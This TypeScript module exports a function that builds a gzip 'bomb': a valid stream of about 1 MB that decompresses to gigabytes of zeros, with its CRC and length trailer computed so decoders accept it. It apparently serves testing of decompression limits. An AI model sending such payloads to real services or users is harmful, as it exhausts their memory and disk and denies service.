/**
 * A gzip bomb made in a blink: one member that unpacks to `mib` MiB of zeros, valid to its CRC and length. The
 * deflate data of 1 MiB of zeros, flushed to a byte boundary, is about 1 KB; the same block repeated is valid
 * deflate (its back-references reach only zeros), so a 1 GiB bomb is 1,024 copies of it, about 1 MB.
 * @module
 */
import { constants, crc32, deflateRawSync } from "node:zlib";

const MiB = 1024 * 1024;

/**
 * The bomb.
 *
 * @param mib What it unpacks to, in MiB.
 * @returns The gzip bytes.
 */
export function gzipBomb(mib: number): Uint8Array<ArrayBuffer> {
  const zeros = new Uint8Array(MiB);
  const block = deflateRawSync(zeros, { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
  const header = new Uint8Array([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff]);
  const last = new Uint8Array([0x03, 0x00]); // a last, empty block of fixed codes
  let crc = 0;
  for (let i = 0; i < mib; i++) crc = crc32(zeros, crc);
  const trailer = new Uint8Array(8);
  new DataView(trailer.buffer).setUint32(0, crc >>> 0, true);
  new DataView(trailer.buffer).setUint32(4, (mib * MiB) >>> 0, true);
  const parts = [header, ...Array<Uint8Array>(mib).fill(block), last, trailer];
  const out = new Uint8Array(parts.reduce((n, p) => n + p.byteLength, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.byteLength;
  }
  return out;
}
